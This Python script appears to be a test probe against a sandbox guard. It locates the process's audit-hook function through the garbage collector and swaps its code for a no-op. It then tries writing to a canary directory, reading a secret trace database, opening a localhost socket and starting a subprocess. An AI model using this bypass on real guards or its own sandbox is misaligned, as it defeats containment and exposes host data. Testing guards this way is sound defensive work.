"""hook: find the audit hook function through gc and swap its code for a no-op, then act.

sys.addaudithook keeps a reference to the function; replacing its __code__ changes what runs.
"""

import gc
import os
import re
import sys
import types

CANARY_DIR = "__CANARY_DIR__"
SECRET_FILE = "__SECRET_FILE__"
TCP_PORT = int("__TCP_PORT__")


def forbidden():
    """The things a guard exists to stop; returns those that worked."""
    wins = []
    try:
        with open(os.path.join(CANARY_DIR, "hook-pwned.txt"), "w") as f:
            f.write("pwned")
        wins.append("wrote into a host directory")
    except Exception as exc:
        print(f"write: {type(exc).__name__}: {exc}")
    try:
        with open(SECRET_FILE, "rb") as f:
            data = f.read()
        wins.append(
            "read the trace database: "
            + " ".join(re.findall(r"[ -~]{12,}", data.decode("latin-1")))[-300:]
        )
    except Exception as exc:
        print(f"read: {type(exc).__name__}: {exc}")
    try:
        import socket

        with socket.create_connection(("127.0.0.1", TCP_PORT), timeout=1) as s:
            s.sendall(b"hook bypass")
        wins.append("connected to a TCP listener")
    except Exception as exc:
        print(f"socket: {type(exc).__name__}: {exc}")
    try:
        import subprocess

        out = subprocess.run(
            [sys.executable, "-c", "print('child ran')"], capture_output=True, timeout=2
        ).stdout
        if b"child ran" in out:
            wins.append("started a process")
    except Exception as exc:
        print(f"subprocess: {type(exc).__name__}: {exc}")
    return wins


swapped = []
for obj in gc.get_objects():
    if (
        isinstance(obj, types.FunctionType)
        and obj.__code__.co_argcount == 2
        and obj.__name__ in ("_audit", "audit", "hook", "_hook")
    ):
        try:
            obj.__code__ = (lambda event, args: None).__code__
            swapped.append(obj.__qualname__)
        except Exception as exc:
            print(f"swap {obj.__qualname__}: {exc}")
for ref in gc.get_referrers(sys.addaudithook):
    print("referrer of addaudithook:", type(ref).__name__)
print("swapped:", swapped or "nothing found")
wins = forbidden()
if wins:
    print("ESCAPED: " + "; ".join(wins))
